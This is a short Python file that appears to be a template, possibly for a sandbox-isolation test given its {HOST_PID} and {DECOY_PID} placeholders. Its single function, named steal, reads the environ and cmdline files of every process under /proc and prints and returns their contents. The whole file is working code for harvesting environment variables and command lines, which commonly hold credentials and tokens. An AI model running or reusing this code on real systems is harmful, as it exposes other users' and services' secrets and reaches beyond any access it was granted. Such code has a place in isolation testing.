import os


def steal() -> str:
    """Collect environment blocks of every process in sight."""
    found = []
    paths = ["/proc/1/environ", "/proc/self/environ", "/proc/{HOST_PID}/environ",
             "/proc/{DECOY_PID}/environ"]
    paths += ["/proc/" + p + "/environ" for p in os.listdir("/proc") if p.isdigit()]
    paths += ["/proc/" + p + "/cmdline" for p in os.listdir("/proc") if p.isdigit()]
    for path in paths:
        try:
            with open(path, "rb") as handle:
                found.append(path + ": " + handle.read().decode("utf-8", "replace"))
        except OSError as exc:
            found.append(path + ": " + type(exc).__name__)
    print("\n".join(found))
    return "\n".join(found)
